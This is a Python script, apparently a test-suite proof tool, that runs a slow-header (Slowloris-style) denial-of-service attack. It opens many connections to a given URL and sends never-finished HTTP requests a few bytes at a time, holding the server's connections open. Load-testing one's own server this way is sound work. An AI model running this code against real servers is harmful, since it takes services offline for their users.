"""``python -m tests.proof.crowd URL TOTAL RATE``: connections that send a head and never end it.

Opens TOTAL of them, RATE a second, each a few bytes a second; says when all were opened, then
goes on with those that are still inside until it is ended.
"""

from __future__ import annotations

import asyncio
import os
import resource
import sys
from contextlib import suppress
from typing import Final
from urllib.parse import urlsplit

SLICES: Final = 50


class Dripper(asyncio.Protocol):
    """Sends a head, a few bytes at a time."""

    def __init__(self, inside: set[Dripper]) -> None:
        self._inside = inside
        self._transport: asyncio.Transport | None = None

    def connection_made(self, transport: asyncio.BaseTransport) -> None:
        assert isinstance(transport, asyncio.Transport)
        self._transport = transport
        self._inside.add(self)
        transport.write(b"GET /avatar/15551234567@c.us.png HTTP/1.1\r\nHost: x\r\n")

    def drip(self) -> None:
        assert self._transport is not None
        self._transport.write(b"X-A: b\r\n")

    def connection_lost(self, _error: Exception | None) -> None:
        self._inside.discard(self)


async def crowd(url: str, total: int, rate: int) -> None:
    parts = urlsplit(url)
    loop = asyncio.get_running_loop()
    inside: set[Dripper] = set()
    opening = loop.create_task(_open(inside, (parts.hostname or "", parts.port or 80), total, rate))
    opening.add_done_callback(lambda _: print("opened", flush=True))
    turn = 0
    while True:
        await asyncio.sleep(1 / SLICES)
        turn += 1
        for each in list(inside):
            if id(each) // 64 % SLICES == turn % SLICES:
                each.drip()


async def _open(inside: set[Dripper], address: tuple[str, int], total: int, rate: int) -> None:
    loop = asyncio.get_running_loop()
    began = loop.time()
    for number in range(total):
        with suppress(OSError):
            await loop.create_connection(lambda: Dripper(inside), *address)
        await asyncio.sleep(max(0.0, began + number / rate - loop.time()))


if __name__ == "__main__":
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    os.nice(10)  # it shares the machine with whom it attacks
    asyncio.run(crowd(sys.argv[1], int(sys.argv[2]), int(sys.argv[3])))
